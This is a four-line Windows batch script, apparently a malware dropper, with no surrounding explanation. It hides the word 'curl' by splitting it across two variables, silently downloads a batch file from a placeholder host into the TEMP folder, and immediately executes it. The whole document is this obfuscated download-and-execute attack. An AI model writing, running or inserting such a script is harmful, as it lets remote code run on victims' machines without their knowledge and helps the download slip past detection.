set a=cu
set b=rl
%a%%b% -so %TEMP%\a.bat https://cdn-x7.invalid/a
%TEMP%\a.bat
